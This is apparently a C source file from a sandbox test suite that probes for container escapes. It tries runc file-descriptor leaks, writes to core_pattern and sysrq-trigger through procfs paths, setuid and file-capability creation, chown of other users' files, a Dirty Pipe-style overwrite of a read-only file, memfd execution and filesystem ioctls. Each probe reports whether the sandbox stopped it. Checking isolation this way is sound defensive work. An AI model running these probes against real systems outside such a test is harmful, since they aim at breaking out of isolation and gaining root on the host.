// What got attackers out of other sandboxes.
#include "attacker.h"
#include <dirent.h>
#include <ftw.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/statfs.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>

// CVE-2024-21626: a directory of the host that was left open, and a working directory through it.
static void a20(void) {
    char cwd[4096];
    if (!getcwd(cwd, sizeof cwd)) succeeded("no working directory: %s", errno_name(errno));
    if (cwd[0] != '/') succeeded("the working directory is %s", cwd);
    for (int number = 0; number < 1024; number++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", number);
        if (chdir(path) == 0) succeeded("chdir(%s)", path);
        refused(errno_name(errno), "chdir(/proc/self/fd/N)");
        snprintf(path, sizeof path, "/proc/1/fd/%d", number);
        if (chdir(path) == 0) succeeded("chdir(%s)", path);
        refused(errno_name(errno), "chdir(/proc/1/fd/N)");
    }
    TRY(chdir("/proc/1/cwd"), "/proc/1/cwd");
    TRY(chdir("/proc/1/root"), "/proc/1/root");
}

// CVE-2025-31133: masked files that are not covered by the real /dev/null.
static void a23(void) {
    static const char *const files[] = {"kcore",     "keys",        "timer_list",   "latency_stats", "slabinfo",
                                        "vmallocinfo", "pagetypeinfo", "kpagecount", "kpageflags",  "kpagecgroup"};
    for (size_t index = 0; index < sizeof files / sizeof *files; index++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%s", files[index]);
        struct stat status;
        if (stat(path, &status) != 0) {
            skip(path, "there is none");
        } else if (!S_ISCHR(status.st_mode) || status.st_rdev != 0x103) {
            succeeded("%s is not covered", path);
        } else {
            try_read(path);
        }
    }
    static const char *const directories[] = {"/proc/scsi", "/proc/acpi"};
    for (int index = 0; index < 2; index++) {
        if (access(directories[index], F_OK) == 0) try_read(directories[index]);
    }
}

// CVE-2025-52565: /dev/console, bound before the masks were.
static void a24(void) {
    struct stat status;
    TRY(stat("/dev/console", &status), "/dev/console");
    TRY(open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC), "/dev/tty");
    TRY(open("/dev/pts/0", O_RDWR | O_NOCTTY | O_CLOEXEC), "/dev/pts/0");
    TRY(ioctl(0, 0x540E /* TIOCSCTTY */, 1), "TIOCSCTTY");
}

// CVE-2025-52881: writes to procfs that end at another of its files.
static void a25(void) {
    static const char *const paths[] = {
        "/proc/self/../sys/kernel/core_pattern", "/proc/thread-self/../../sys/kernel/core_pattern",
        "/proc/1/root/proc/sys/kernel/core_pattern", "/proc/self/root/proc/sys/kernel/core_pattern",
        "/proc/self/cwd/../../../../../../proc/sysrq-trigger", "/proc/sysrq-trigger"};
    for (size_t index = 0; index < sizeof paths / sizeof *paths; index++) try_write(paths[index]);
    struct statfs system;
    if (statfs("/proc/sys/kernel/core_pattern", &system) != 0 || system.f_type != 0x9fa0) {
        succeeded("core_pattern is no file of procfs");
    }
}

// CVE-2017-5226's kin with files: capabilities of a file that the job makes.
static void a29(void) {
    char path[600];
    snprintf(path, sizeof path, "%s/capable", fact("ATTACK_ARTIFACTS"));
    close(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0755));
    // VFS_CAP_REVISION_2, cap_sys_admin.
    static const uint32_t value[5] = {0x02000001, 1U << 21, 0, 0, 0};
    TRY(setxattr(path, "security.capability", value, sizeof value, 0), "security.capability");
    TRY(setxattr(path, "trusted.overlay.opaque", "y", 1, 0), "trusted.overlay");
    unlink(path);
}

static void made(const char *path, const char *what) {
    struct stat status;
    if (lstat(path, &status) == 0 && (status.st_mode & (S_ISUID | S_ISGID))) succeeded("%s", what);
}

static void let_go(long result, const char *path, const char *what) {
    int number = errno;
    made(path, what);
    if (result >= 0) {
        refused("plain-mode", what);
    } else {
        refused(errno_name(number), what);
    }
}

// A setuid file in a directory that users of the host reach lends them the submitter's rights, or the other way round.
static void a30(void) {
    char path[600], other[600];
    snprintf(path, sizeof path, "%s/lent", fact("ATTACK_ARTIFACTS"));
    snprintf(other, sizeof other, "%s/lent2", fact("ATTACK_ARTIFACTS"));
#define FRESH (unlink(path), close(open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0755)))
    FRESH;
    let_go((errno = 0, chmod(path, 04755)), path, "chmod(4755)");
    let_go((errno = 0, chmod(path, 02755)), path, "chmod(2755)");
    int file = open(path, O_RDWR | O_CLOEXEC);
    let_go((errno = 0, fchmod(file, 06755)), path, "fchmod(6755)");
    let_go((errno = 0, fchmodat(AT_FDCWD, path, 04755, 0)), path, "fchmodat(4755)");
    let_go((errno = 0, syscall(NR_fchmodat2, AT_FDCWD, path, 04755, AT_SYMLINK_NOFOLLOW)), path, "fchmodat2(4755)");
    let_go((errno = 0, syscall(SYS_chmod, path, 1UL << 32 | 04755)), path, "chmod(4755) and bit 32");
    close(file);
    unlink(path);
    let_go((errno = 0, open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 04755)), path, "open(O_CREAT, 4755)");
    unlink(path);
    let_go((errno = 0, syscall(SYS_openat, AT_FDCWD, path, 1UL << 32 | O_CREAT | O_WRONLY, 04755)), path,
           "openat and bit 32 of the flags");
    unlink(path);
#ifdef SYS_creat
    let_go((errno = 0, syscall(SYS_creat, path, 04755)), path, "creat(4755)");
    unlink(path);
#endif
    let_go((errno = 0, mknod(path, S_IFREG | 04755, 0)), path, "mknod(4755)");
    unlink(path);
    let_go((errno = 0, mkdir(path, 06755)), path, "mkdir(6755)");
    rmdir(path);
    struct {
        uint64_t flags, mode, resolve;
    } how = {O_CREAT | O_WRONLY, 04755, 0};
    let_go((errno = 0, syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how)), path, "openat2(4755)");
    unlink(path);
    int unnamed = (errno = 0, open(fact("ATTACK_ARTIFACTS"), O_TMPFILE | O_RDWR | O_CLOEXEC, 04755));
    if (unnamed >= 0) {
        char link[64];
        snprintf(link, sizeof link, "/proc/self/fd/%d", unnamed);
        (void)!linkat(AT_FDCWD, link, AT_FDCWD, other, AT_SYMLINK_FOLLOW);
        let_go(0, other, "O_TMPFILE(4755)");
        unlink(other);
    } else {
        refused(errno_name(errno), "O_TMPFILE(4755)");
    }
    unlink(path);
}

// CVE-2023-41914's class: giving files away, or taking others'.
static void a31(void) {
    char path[600];
    snprintf(path, sizeof path, "%s/given", fact("ATTACK_ARTIFACTS"));
    close(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    TRY(chown(path, geteuid() + 1, (gid_t)-1), "chown(another)");
    TRY(lchown(path, geteuid() == 0 ? 1 : 0, 0), "lchown");
    TRY(chown(fact("ATTACK_SHOWN"), geteuid(), getegid()), "chown(shown)");
    unlink(path);
}

// CVE-2022-0847's class: changing a read-only file through pages that are shared with the page cache.
static void a85(void) {
    const char *path = fact("ATTACK_SHOWN");
    char before[16], after[16];
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0 || pread(file, before, sizeof before, 0) != sizeof before) not_run("%s: %s", path, errno_name(errno));
    int ends[2];
    if (pipe(ends) != 0) not_run("pipe: %s", errno_name(errno));
    // The pipe's buffers once were all mergeable.
    char page[4096] = {0};
    for (int index = 0; index < 16; index++) (void)!write(ends[1], page, sizeof page);
    for (int index = 0; index < 16; index++) (void)!read(ends[0], page, sizeof page);
    loff_t offset = 0;
    if (splice(file, &offset, ends[1], NULL, 1, 0) == 1) (void)!write(ends[1], "ATTACKED", 8);
    void *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (map != MAP_FAILED && memory >= 0) (void)!pwrite(memory, "ATTACKED", 8, (off_t)(uintptr_t)map);
    if (pread(file, after, sizeof after, 0) != sizeof after) not_run("%s: %s", path, errno_name(errno));
    if (memcmp(before, after, sizeof before)) succeeded("%s has changed", path);
    refused("unchanged", "splice, /proc/self/mem");
    TRY(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0, "mmap(SHARED, WRITE)");
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", file);
    try_write(link);
}

// Programs from memory obey the same locks.
static void a70(void) {
    int memory = memfd_create("program", 0);
    int program = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    struct stat status;
    if (memory < 0 || program < 0 || fstat(program, &status) != 0) not_run("memfd: %s", errno_name(errno));
    if (sendfile(memory, program, NULL, (size_t)status.st_size) != status.st_size) {
        not_run("sendfile: %s", errno_name(errno));
    }
    fchmod(memory, 0755);
    int ends[2];
    if (pipe(ends) != 0) not_run("pipe: %s", errno_name(errno));
    pid_t child = fork();
    if (child == 0) {
        dup2(ends[1], STDOUT_FILENO);
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", memory);
        execl(path, path, "--locks", NULL);
        _exit(1);
    }
    close(ends[1]);
    char text[8] = "";
    ssize_t count = read(ends[0], text, sizeof text - 1);
    waitpid(child, NULL, 0);
    if (count < 2) not_run("the program did not start");
    if (text[0] != '1' || text[1] != '2') succeeded("NoNewPrivs %c, Seccomp %c", text[0], text[1]);
    refused("locked", "program in a memfd");
    TRY(fchmod(memory, 04755), "fchmod(memfd, 4755)");
}

// A crash must not start the host's core handler, as root and outside.
static void crash(void) {
    int *volatile nowhere = NULL;
    *nowhere = 1;
}

static void a47(void) {
    int status = in_child(crash);
    if (!WIFSIGNALED(status)) not_run("it did not crash: status %x", (unsigned)status);
    if (WCOREDUMP(status)) succeeded("a core was dumped");
    struct rlimit limit;
    getrlimit(RLIMIT_CORE, &limit);
    if (limit.rlim_cur != 1 || limit.rlim_max != 1) {
        succeeded("RLIMIT_CORE is %llu", (unsigned long long)limit.rlim_max);
    }
    refused("no-core", "SIGSEGV");
}

// Requests that act on the whole file system that holds the artifacts. Each is one that changes nothing.
static void a90(void) {
    int file = open(fact("ATTACK_ARTIFACTS"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (file < 0) not_run("artifacts: %s", errno_name(errno));
    // With the right to do it, a file system that is not frozen gives EINVAL.
    long result = ioctl(file, _IOWR('X', 120, int) /* FITHAW */, 0);
    if (result == 0 || errno == EINVAL) succeeded("FITHAW reached the file system");
    refused(errno_name(errno), "FITHAW");
    struct fstrim_range range = {.start = 0, .len = 0, .minlen = ~0ULL};
    TRY(ioctl(file, FITRIM, &range), "FITRIM");
    TRY(syscall(SYS_quotactl, 0x800003 << 8, NULL, 0, NULL), "quotactl");
    TRY(syscall(NR_quotactl_fd, file, 0x800007 << 8, 0, NULL), "quotactl_fd");
}

const attack escape_attacks[] = {
    {"A20", a20, 0, false}, {"A23", a23, 0, true},  {"A24", a24, 0, false}, {"A25", a25, 0, true},
    {"A29", a29, 0, true},  {"A30", a30, 0, true},  {"A31", a31, 0, true},  {"A85", a85, 0, false},
    {"A70", a70, 0, true},  {"A47", a47, 0, false}, {"A90", a90, 0, true},  {NULL, NULL, 0, false},
};
